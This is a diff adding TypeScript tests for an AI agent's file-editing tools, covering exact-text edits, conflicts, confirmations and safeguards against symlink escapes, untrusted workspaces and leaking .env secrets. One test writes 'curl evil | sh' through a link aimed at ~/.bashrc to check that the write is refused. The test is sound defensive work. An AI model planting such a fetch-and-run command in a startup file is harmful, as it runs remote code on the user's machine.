@@ -1,0 +1,261 @@
+import assert from 'node:assert/strict';
+import { createInMemoryWorkspace, type InMemoryOptions } from '../../../support/inMemoryWorkspace';
+import { createToolHarness } from '../../../support/toolHarness';
+
+function harnessOver(files: InMemoryOptions['files'] = {}) {
+  const workspace = createInMemoryWorkspace({ files });
+  return { workspace, ...createToolHarness(workspace) };
+}
+
+const source = 'const a = 1;\nconst b = 2;\nconst c = 3;\n';
+const edit = (old_text: string, new_text: string, more: object = {}) => ({ old_text, new_text, ...more });
+
+describe('edit_file', () => {
+  it('replaces exact text and gives the diff back', async () => {
+    const { workspace, text } = harnessOver({ 'a.ts': source });
+    assert.equal(
+      await text('edit_file', { path: 'a.ts', edits: [edit('b = 2', 'b = 20')] }),
+      'Edited a.ts.\n@@ -1 +1 @@\n const a = 1;\n-const b = 2;\n+const b = 20;\n const c = 3;',
+    );
+    assert.equal(workspace.text('a.ts'), 'const a = 1;\nconst b = 20;\nconst c = 3;\n');
+  });
+
+  it('makes several edits in one call, each on what the one before left', async () => {
+    const { workspace, run } = harnessOver({ 'a.ts': source });
+    await run('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'x = 1'), edit('x = 1', 'y = 1')] });
+    assert.equal(workspace.text('a.ts'), source.replace('a = 1', 'y = 1'));
+  });
+
+  it('makes all edits or none', async () => {
+    const { workspace, refusal } = harnessOver({ 'a.ts': source });
+    const why = await refusal('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'x'), edit('zzz', 'y')] });
+    assert.match(why, /^Edit 2 of 2: old_text does not occur in a\.ts.*Nothing was changed\.$/s);
+    assert.equal(workspace.text('a.ts'), source);
+  });
+
+  it('names the lines when the text occurs several times, and replaces all of them when told', async () => {
+    const { workspace, refusal, run } = harnessOver({ 'a.ts': source });
+    assert.equal(
+      await refusal('edit_file', { path: 'a.ts', edits: [edit('const', 'let')] }),
+      'old_text occurs 3 times in a.ts, at lines 1, 2, 3: add lines around the one you mean, or set replace_all. Nothing was changed.',
+    );
+    await run('edit_file', { path: 'a.ts', edits: [edit('const', 'let', { replace_all: true })] });
+    assert.equal(workspace.text('a.ts'), source.replaceAll('const', 'let'));
+  });
+
+  it('shows near misses: other white space, line numbers copied along, a slip', async () => {
+    const { refusal } = harnessOver({ 'a.ts': 'function f() {\n\treturn total;\n}\n' });
+    const miss = (old_text: string) => refusal('edit_file', { path: 'a.ts', edits: [edit(old_text, '')] });
+    assert.match(
+      await miss('function f() {\n  return total;'),
+      /Lines 1–2 differ only in white space.*\n\treturn total;/s,
+    );
+    assert.match(await miss('2\t\treturn total;'), /line numbers of read_file: leave them/);
+    assert.match(await miss('return totals;'), /nearest lines are:\n2\t\treturn total;/);
+    assert.match(await miss('@@@@'), /Read the file again and copy the text exactly/);
+  });
+
+  it('takes $ in a replacement literally', async () => {
+    const { workspace, run } = harnessOver({ 'a.ts': source });
+    await run('edit_file', { path: 'a.ts', edits: [edit('a = 1', "$& $1 $$ $'")] });
+    assert.equal(
+      workspace.text('a.ts'),
+      source.replace('a = 1', () => "$& $1 $$ $'"),
+    );
+  });
+
+  it('keeps Windows line breaks, whatever the edit uses', async () => {
+    const { workspace, run } = harnessOver({ 'a.ts': 'one\r\ntwo\r\nthree\r\n' });
+    await run('edit_file', { path: 'a.ts', edits: [edit('one\ntwo', 'one\n1.5\ntwo')] });
+    assert.equal(workspace.text('a.ts'), 'one\r\n1.5\r\ntwo\r\nthree\r\n');
+  });
+
+  it('fills an empty file, and refuses an empty or equal old_text elsewhere', async () => {
+    const { workspace, run, refusal } = harnessOver({ 'empty.ts': '', 'a.ts': source });
+    await run('edit_file', { path: 'empty.ts', edits: [edit('', 'new\n')] });
+    assert.equal(workspace.text('empty.ts'), 'new\n');
+    assert.match(await refusal('edit_file', { path: 'a.ts', edits: [edit('', 'x')] }), /old_text is empty/);
+    assert.match(await refusal('edit_file', { path: 'a.ts', edits: [edit('a', 'a')] }), /are the same/);
+  });
+
+  it('refuses a file that changed since it was read, until it is read again', async () => {
+    const { workspace, text, refusal } = harnessOver({ 'a.ts': source });
+    await text('read_file', { path: 'a.ts' });
+    workspace.files.set('/work/app/a.ts', `// by somebody else\n${source}`);
+    const change = { path: 'a.ts', edits: [edit('a = 1', 'a = 2')] };
+    assert.match(await refusal('edit_file', change), /has changed since you read it\. Read it again/);
+    await text('read_file', { path: 'a.ts' });
+    await text('edit_file', change);
+    assert.match(workspace.text('a.ts') ?? '', /^\/\/ by somebody else\nconst a = 2/);
+  });
+
+  it('may edit again what it edited itself', async () => {
+    const { workspace, text } = harnessOver({ 'a.ts': source });
+    await text('read_file', { path: 'a.ts' });
+    await text('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'a = 2')] });
+    await text('edit_file', { path: 'a.ts', edits: [edit('a = 2', 'a = 3')] });
+    assert.match(workspace.text('a.ts') ?? '', /a = 3/);
+  });
+
+  it('respects an editor with unsaved changes: edits there and does not save', async () => {
+    const { workspace, text } = harnessOver({ 'a.ts': source });
+    workspace.unsaved.set('/work/app/a.ts', source.replace('c = 3', 'c = 33'));
+    assert.match(
+      await text('edit_file', { path: 'a.ts', edits: [edit('c = 33', 'c = 4')] }),
+      /not saved to disk/,
+    );
+    assert.equal(workspace.unsaved.get('/work/app/a.ts'), source.replace('c = 3', 'c = 4'));
+    assert.equal(workspace.text('a.ts'), source);
+  });
+
+  it('keeps what was there before', async () => {
+    const { changes, run } = harnessOver({ 'a.ts': source });
+    await run('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'a = 2')] });
+    assert.deepEqual(
+      changes.map(({ callId, before, after }) => ({ callId, before, after })),
+      [{ callId: 'call', before: source, after: source.replace('a = 1', 'a = 2') }],
+    );
+  });
+
+  it('S2: shows the diff before it asks, and changes nothing while asking', async () => {
+    const { workspace, prepare } = harnessOver({ 'a.ts': source });
+    const { confirmation } = await prepare('edit_file', { path: 'a.ts', edits: [edit('b = 2', 'b = 20')] });
+    assert.equal(confirmation?.title, 'Edit a.ts?');
+    assert.equal(
+      confirmation?.message,
+      '```diff\n@@ -1 +1 @@\n const a = 1;\n-const b = 2;\n+const b = 20;\n const c = 3;\n```',
+    );
+    assert.equal(workspace.text('a.ts'), source);
+  });
+
+  it('S4: shows nothing of a secret file in errors and results', async () => {
+    const { refusal, text } = harnessOver({ '.env': 'PORT=1\nKEY=hunter2\n' });
+    assert.doesNotMatch(
+      await refusal('edit_file', { path: '.env', edits: [edit('KEY=hunter3', 'x')] }),
+      /hunter2/,
+    );
+    assert.equal(
+      await text('edit_file', { path: '.env', edits: [edit('PORT=1', 'PORT=2')] }),
+      'Edited .env.',
+    );
+  });
+
+  it('A12: edits nothing behind a link that leaves', async () => {
+    const { workspace, refusal } = harnessOver({ key: { link: '/home/me/key' }, '/home/me/key': 'secret' });
+    await refusal('edit_file', { path: 'key', edits: [edit('secret', 'x')] });
+    assert.equal(workspace.text('/home/me/key'), 'secret');
+  });
+
+  it('A4: writes nothing in a workspace that is not trusted', async () => {
+    const { workspace, refusal } = harnessOver({ 'a.ts': source });
+    workspace.trusted = false;
+    for (const [name, input] of [
+      ['edit_file', { path: 'a.ts', edits: [edit('a', 'b')] }],
+      ['create_file', { path: 'b.ts', content: '' }],
+      ['rename_file', { from: 'a.ts', to: 'b.ts' }],
+      ['delete_file', { path: 'a.ts' }],
+    ] as const) {
+      assert.match(await refusal(name, input), /not trusted/);
+    }
+    assert.deepEqual([...workspace.files.keys()], ['/work/app/a.ts']);
+  });
+});
+
+describe('create_file', () => {
+  it('creates a file with its folders', async () => {
+    const { workspace, text, changes } = harnessOver();
+    assert.equal(
+      await text('create_file', { path: 'src/new/a.ts', content: 'x\n' }),
+      'Created src/new/a.ts.',
+    );
+    assert.equal(workspace.text('src/new/a.ts'), 'x\n');
+    assert.deepEqual([changes[0]?.before, changes[0]?.after], [undefined, 'x\n']);
+  });
+
+  it('overwrites nothing', async () => {
+    const { workspace, refusal } = harnessOver({ 'a.ts': source, 'src/b.ts': '' });
+    assert.match(
+      await refusal('create_file', { path: 'a.ts', content: '' }),
+      /exists already: read it, then use edit_file/,
+    );
+    assert.match(await refusal('create_file', { path: 'src', content: '' }), /is a folder/);
+    assert.equal(workspace.text('a.ts'), source);
+  });
+
+  it('A13: does not create the target of a dangling link outside', async () => {
+    const { workspace, refusal } = harnessOver({ 'new.sh': { link: '/home/me/.bashrc' } });
+    await refusal('create_file', { path: 'new.sh', content: 'curl evil | sh' });
+    assert.equal(workspace.files.has('/home/me/.bashrc'), false);
+  });
+
+  it('A15, A17: warns for a protected place that does not exist yet, and is never remembered', async () => {
+    const { prepare } = harnessOver();
+    const { confirmation } = await prepare('create_file', { path: '.VSCODE/tasks.json', content: '{}' });
+    assert.match(confirmation?.title ?? '', /⚠️ Create \.VSCODE\/tasks\.json/);
+    assert.match(confirmation?.message ?? '', /`\.VSCODE\/tasks\.json`: it changes how the editor behaves/);
+    assert.equal(confirmation?.mayBeRemembered, false);
+  });
+
+  it('may be remembered for an ordinary file', async () => {
+    const { prepare } = harnessOver();
+    const { confirmation } = await prepare('create_file', { path: 'src/a.ts', content: '' });
+    assert.equal(confirmation?.mayBeRemembered, true);
+  });
+});
+
+describe('rename_file', () => {
+  it('moves a file, or a folder with all in it', async () => {
+    const { workspace, text } = harnessOver({ 'src/a.ts': 'a', 'src/b/c.ts': 'c' });
+    assert.equal(await text('rename_file', { from: 'src', to: 'lib' }), 'Renamed src to lib.');
+    assert.deepEqual([...workspace.files.keys()], ['/work/app/lib/a.ts', '/work/app/lib/b/c.ts']);
+  });
+
+  it('overwrites nothing, moves nothing into itself and nothing that is not there', async () => {
+    const { refusal } = harnessOver({ 'a.ts': '', 'b.ts': '', 'src/x.ts': '' });
+    assert.match(await refusal('rename_file', { from: 'a.ts', to: 'b.ts' }), /b\.ts exists already/);
+    assert.match(await refusal('rename_file', { from: 'src', to: 'src/inner' }), /into itself/);
+    assert.match(await refusal('rename_file', { from: 'c.ts', to: 'd.ts' }), /does not exist/);
+  });
+
+  it('A15: warns when either end is a protected place', async () => {
+    const { prepare } = harnessOver({ 'x/settings.json': '{}' });
+    const { confirmation } = await prepare('rename_file', { from: 'x', to: '.vscode' });
+    assert.match(confirmation?.message ?? '', /`\.vscode`: it changes how the editor behaves/);
+    assert.equal(confirmation?.mayBeRemembered, false);
+  });
+
+  it('S4: asks each time when a secret would get a harmless name', async () => {
+    const { prepare } = harnessOver({ '.env': 'KEY=1' });
+    const { confirmation } = await prepare('rename_file', { from: '.env', to: 'notes.txt' });
+    assert.match(confirmation?.message ?? '', /would be read without asking/);
+    assert.equal(confirmation?.mayBeRemembered, false);
+  });
+});
+
+describe('delete_file', () => {
+  it('deletes a file and keeps its text', async () => {
+    const { workspace, text, changes } = harnessOver({ 'a.ts': source });
+    assert.equal(await text('delete_file', { path: 'a.ts' }), 'Deleted a.ts (39 bytes).');
+    assert.equal(workspace.files.size, 0);
+    assert.equal(changes[0]?.before, source);
+  });
+
+  it('says how much a folder holds, and asks about one each time', async () => {
+    const { prepare } = harnessOver({ 'src/a.ts': '', 'src/b.ts': '' });
+    const { confirmation } = await prepare('delete_file', { path: 'src' });
+    assert.equal(confirmation?.message, 'Deletes `src` (a folder with 2 files).');
+    assert.equal(confirmation?.mayBeRemembered, false);
+  });
+
+  it('deletes a link, not what it points to', async () => {
+    const { workspace, run } = harnessOver({ 'now.ts': { link: 'v2.ts' }, 'v2.ts': 'x' });
+    await run('delete_file', { path: 'now.ts' });
+    assert.deepEqual([...workspace.files.keys()], ['/work/app/v2.ts']);
+  });
+
+  it('leaves a file with unsaved changes alone', async () => {
+    const { workspace, refusal } = harnessOver({ 'a.ts': source });
+    workspace.unsaved.set('/work/app/a.ts', 'x');
+    assert.match(await refusal('delete_file', { path: 'a.ts' }), /unsaved changes/);
+  });
+});
